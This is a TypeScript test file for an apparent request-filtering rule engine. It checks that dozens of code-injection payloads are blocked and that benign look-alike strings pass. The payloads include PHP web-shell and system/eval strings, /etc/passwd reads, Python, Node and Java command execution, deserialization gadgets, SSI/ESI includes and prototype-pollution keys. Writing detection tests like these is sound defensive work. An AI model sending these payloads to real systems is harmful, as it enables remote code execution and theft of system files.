import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { builtinOf, judgeBody, judgeHead, queryWith } from '../testing/judging.ts';

const rules = builtinOf();

function found(text: string): string[] {
  return judgeHead(rules, queryWith(text)).matches.map(({ ruleId, score }) => `${ruleId} ${score}`);
}

function scoreOf(text: string): number {
  return judgeHead(rules, queryWith(text)).score;
}

describe('program text as a value', () => {
  const attacks = [
    ...[
      '<?php phpinfo();',
      '<?= `id` ?>',
      '<? system("id"); ?>',
      "system('id');",
      'phpinfo()',
      "eval('pwd');",
      '<?php system($_GET["c"]); ?>',
    ],
    ...[
      "');}print(`id`);//",
      '".print(`id`)."',
      "'.system('id').'",
      '$' + "{system('id')}",
      "assert('phpinfo()')",
      'shell_exec("id")',
      '@eval($_POST[x]);',
    ],
    ...[
      "file_get_contents('/etc/passwd')",
      "call_user_func('system','id')",
      "passthru('id')",
      'print(md5(31337))',
      "print('x'.system('id'));",
    ],
    ...[
      "preg_replace('/a/e','phpinfo()','a')",
      "include('http://h/x.php')",
      '$' + "{@eval(base64_decode('cGhwaW5mbygp'))}",
      "(system)('uname');",
      '$_GET[0]($_GET[1])',
    ],
    ...[
      "__import__('os').system('id')",
      "os.system('id')",
      "exec('import os')",
      "subprocess.Popen(['id'])",
      '().__class__.__bases__[0]',
    ],
    ...[
      "eval(compile('for x in range(1):\\n import time','a','single'))",
      "open('/etc/passwd').read()",
      "import os;os.popen('id')",
    ],
    ...[
      "require('child_process').exec('id')",
      "process.mainModule.require('fs')",
      "global.process.mainModule.constructor._load('child_process')",
    ],
    ...[
      "this.constructor.constructor('return process')()",
      "fs.readFileSync('/etc/passwd')",
      "new Function('return 1')()",
      "process.binding('fs')",
    ],
    ...[
      'Runtime.getRuntime().exec("id")',
      'java.lang.Runtime',
      'new ProcessBuilder("id").start()',
      'T(java.lang.System).getenv()',
      "''.getClass().forName('x')",
    ],
    ...[
      'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
      'com.opensymphony.xwork2.dispatcher',
      'org.apache.commons.collections.functors',
    ],
    ...["IO.popen('id').read", '%x(id)', "Kernel.exec('id')", "File.read('/etc/passwd')", "open('|id')"],
    ...[
      'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
      'a:1:{i:0;O:4:"Evil":0:{}}',
      'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ',
      'AAEAAAD/////AQAAAAAAAAAMAgAAAF',
    ],
    ...[
      '{"rce":"_$$ND_FUNC$$_function(){}()"}',
      "cos\nsystem\n(S'id'\ntR.",
      '!!python/object/apply:os.system ["id"]',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
    ],
    ...[
      '<!--#exec cmd="id"-->',
      '<!--#include virtual="/etc/passwd"-->',
      '<esi:include src="http://h/"/>',
      'while(1);eval("x")',
      'sleep(5);phpinfo();',
    ],
    ...[
      'response.write(9*9)',
      'Response.Write("x")',
      "');phpinfo();//",
      '{$' + '{phpinfo()}}',
      ';phpinfo();',
      '"];phpinfo();//',
      "'; exec('id'); //",
      'php_uname()',
    ],
    ...[
      '1;phpinfo()',
      '$' + "{print('x')}",
      'var_dump($_SERVER)',
      'echo(`id`)',
      "'+eval('1+1')+'",
      "passthru($_GET['c'])",
      '%{@java.lang.Runtime@getRuntime()}',
    ],
  ];
  for (const text of attacks) {
    it(`blocks ${JSON.stringify(text)}`, () => assert.ok(scoreOf(text) >= 5, found(text).join()));
  }

  it('blocks names that change all objects', () => {
    for (const name of [
      '__proto__[x]',
      '__proto__.x',
      'constructor[prototype][x]',
      'a[constructor][prototype]',
      'constructor.prototype.x',
    ]) {
      assert.ok(judgeHead(rules, `/?${name}=1`).score >= 5, name);
    }
    assert.ok(judgeBody(rules, '{"__proto__":{"x":1}}', 'application/json').score >= 5);
    assert.ok(judgeBody(rules, '{"constructor":{"prototype":{"x":1}}}', 'application/json').score >= 5);
  });

  const honest = [
    ...[
      'print (large)',
      'system (2024)',
      'exec (assistant)',
      'file(s)',
      'open(new tab)',
      'include (optional)',
      'echo (dot)',
      'function foo() {}',
    ],
    ...[
      'eval',
      'The system("core") was fine',
      'document.getElementById("x")',
      'a.exec(b)',
      '/regex/.exec("x")',
      'console.log("x")',
      'print("hello world")',
    ],
    ...[
      'JavaScript',
      'java.util',
      'java language',
      'C:8:5',
      'O:1',
      'a:b:c',
      'RO0m',
      'process.env.NODE_ENV',
      'window.open("x")',
      'import React from "react"',
    ],
    ...[
      'class Foo',
      'what is __init__?',
      '<?xml version="1.0"?>',
      'require("lodash")',
      'chr(10)',
      'md5(x)',
      'ORDER:10:"x"',
      'die (cast)',
    ],
    ...[
      '_ga=GA1.2',
      'constructor',
      'proto',
      'prototype car',
      'Runtime: 120 min',
      'System.out.println("x")',
      'TypeError: a.exec is not a function',
      '$_',
      '$GLOBAL',
    ],
  ];
  for (const text of honest) {
    it(`leaves ${JSON.stringify(text)}`, () => assert.ok(scoreOf(text) < 5, found(text).join()));
  }
});
